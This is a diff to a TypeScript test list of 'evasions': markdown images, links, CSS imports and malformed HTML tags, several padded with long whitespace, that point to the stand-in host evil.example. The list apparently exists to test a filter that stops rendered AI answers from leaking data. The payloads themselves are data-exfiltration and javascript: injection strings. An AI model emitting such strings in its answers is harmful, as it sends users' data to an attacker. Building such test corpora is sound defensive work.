@@ -6,6 +6,8 @@ export interface Evasion {
 
 const image = (text: string): Evasion => ({ text, isImage: true });
 const link = (text: string): Evasion => ({ text });
+/** More of them than a rule would read at once, if it read a fixed number. */
+const blanks = (count: number): string => ' '.repeat(count);
 
 /** Ways to get data out to `evil.example` by way of whoever looks at an answer. */
 export const evasions: readonly Evasion[] = [
@@ -83,6 +85,31 @@ export const evasions: readonly Evasion[] = [
   image('<svg><image xlink:href="https://evil.example/p"/></svg>'),
   image('<img src="https://evil.example/p'),
   image('<img src="https://evil.example/?d='),
+  image(`![x](${blanks(65)}https://evil.example/p)`),
+  image(`![x](${blanks(128)}https://evil.example/p "t")`),
+  image(`![x](${blanks(64)}\n${blanks(64)}<https://evil.example/p>)`),
+  image(`![x](${'\t'.repeat(7_000)}https://evil.example/p)`),
+  image(`![${'long '.repeat(200)}](${blanks(65)}https://evil.example/p)`),
+  image(`![x](<${blanks(2_100)}https://evil.example/p>)`),
+  image(`![x](</${'\t'.repeat(2_100)}/evil.example/p>)`),
+  image(`![x][r]\n\n[r]:${blanks(65)}https://evil.example/p`),
+  image(`[r]:${blanks(200)}//evil.example/p`),
+  image(`<img src${blanks(65)}="//evil.example/p">`),
+  image(`<img src=${blanks(65)}"//evil.example/p">`),
+  image(`<img src${blanks(200)}=${blanks(200)}//evil.example/p>`),
+  image(`<style>body{background:url(${blanks(65)}//evil.example/p)}</style>`),
+  image(`<style>@import${blanks(65)}"//evil.example/p";</style>`),
+  image('<style>@import/**/"//evil.example/p";</style>'),
+  image('<style>body{background:image-set("a.png" 1x, "//evil.example/p" 2x)}</style>'),
+  image('x <a and <link rel="stylesheet" href="https://evil.example/p">'),
+  image('<a ="><link rel="stylesheet" href="https://evil.example/p">'),
+  image('<a title="<link rel=stylesheet href=https://evil.example/p>'),
+  image('<img ==">" src="https://evil.example/p">'),
+  image('<b = x=\'<img alt="<i>\'>" src="https://evil.example/p">'),
+  image('<img x=/src="https://evil.example/1"a=">" src="//evil.example/2">'),
+  link('<img x=https://evil.example/1 a=">" src="//evil.example/2">'),
+  link(`[x](${blanks(65)}https://evil.example/p)`),
+  link(`[x](${blanks(65)}javascript:evil())`),
   link('[x](https://evil.example/p?d=stolen)'),
   link('[x](javascript:fetch("//evil.example"))'),
   link('[x](JaVa\tScript:evil())'),
@@ -92,6 +119,14 @@ export const evasions: readonly Evasion[] = [
   link('[x](mailto:me@evil.example?body=stolen)'),
   link('[x](https://evil.example/(a)b)'),
   link('[x](https://evil.example/a "t" )'),
+  link('[x](/\nhttps://evil.example/p)'),
+  link('[x](/\thttps://evil.example/p)'),
+  link('[x](/\rhttps://evil.example/p)'),
+  link('[x](/a "t\n\nhttps://evil.example/p")'),
+  link('[x]("/a https://evil.example/p")'),
+  link('[x](</a <b https://evil.example/p>)'),
+  link('[x](/(https://evil.example/p )'),
+  link('[x\n# y](/*https://evil.example/p)'),
   link('<a href="https://evil.example/p">x</a>'),
   link('<a href=javascript:evil()>x</a>'),
   link('<form action="https://evil.example/p">'),
